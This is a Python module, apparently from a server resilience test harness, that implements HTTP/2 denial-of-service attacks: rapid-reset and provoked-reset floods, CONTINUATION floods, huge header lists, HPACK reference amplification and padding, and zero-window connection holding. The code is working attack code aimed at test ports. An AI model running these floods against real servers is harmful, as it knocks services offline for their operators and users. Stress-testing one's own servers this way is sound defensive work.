# SPDX-License-Identifier: Apache-2.0
"""Attacks by frames of HTTP/2: resets, CONTINUATION, header lists, HPACK, closed windows."""

import struct
import time
from collections import Counter

import h2_frames as h2
from connections import BROKEN, REQUEST_HEADERS, h2_connection, stranger


def flood(make, opening=b""):
    """`make(connection)` gives bytes to send, for as long as the peer takes them; then another connection."""
    def attack(ports, deadline):
        seen = Counter()
        while time.monotonic() < deadline:
            connection = None
            try:
                connection = h2_connection(ports.grpc, stranger())
                connection.send(opening)
                seen["connections"] += 1
                while time.monotonic() < deadline:
                    chunk = make(connection)
                    connection.send(chunk)
                    seen["KiB"] += len(chunk) >> 10
                    connection.discard()
            except BROKEN:
                seen["cut"] += 1
            finally:
                if connection:
                    connection.close()
        return seen
    return attack


def reset_frames(connection):
    cancel = struct.pack(">I", 8)
    out = []
    for _ in range(50):
        stream = connection.stream()
        out += (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, REQUEST_HEADERS), h2.frame(h2.RST_STREAM, 0, stream, cancel))
    return b"".join(out)


def provoking_frames(connection):
    """A WINDOW_UPDATE of 0 is an error of its stream: the server resets it itself."""
    out = []
    for _ in range(50):
        stream = connection.stream()
        out += (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, REQUEST_HEADERS),
                h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4)))
    return b"".join(out)


def continuation_flood(_):
    return h2.frame(h2.CONTINUATION, 0, 1, h2.literal("a", "b")) * 500


def huge_header_lists(connection):
    stream = connection.stream()
    big = h2.literal("x-big", b"v" * 16000)
    return (h2.frame(h2.HEADERS, 0, stream, REQUEST_HEADERS) + h2.frame(h2.CONTINUATION, 0, stream, big) * 63 +
            h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, big))


def hpack_claimed(_):
    return h2.frame(h2.CONTINUATION, 0, 1, b"x" * 16384) * 4


def hpack_references(connection):
    """One entry of 4,000 bytes in the table, then 16,000 references of a byte each: 64 MB of headers a stream."""
    stream = connection.stream()
    block = h2.literal("x-large", b"v" * 3900, first=0x40) if stream == 1 else b""
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, REQUEST_HEADERS + block + b"\xbe" * 12000)


def hpack_padding(_):
    return h2.frame(h2.CONTINUATION, 0, 1, b"\x80" * 16384) * 4


def closed_windows(ports, deadline):
    """HTTP/2 connections that ask for the largest page 128 times and take no byte of an answer."""
    seen, held = Counter(), []
    get = h2.literal(":method", "GET") + h2.literal(":scheme", "http") + h2.literal(":path", "/metrics") + h2.literal(":authority", "t")
    while time.monotonic() < deadline:
        try:
            connection = h2.Connection(ports.pages["metrics"], stranger())
            held.append(connection)
            seen["connections"] += 1
            connection.send(h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            for _ in range(128):
                connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, connection.stream(), get))
            connection.discard()
        except BROKEN:
            seen["cut"] += 1
        if len(held) >= 60:
            held.pop(0).close()
        time.sleep(0.01)
    for connection in held:
        connection.close()
    return seen
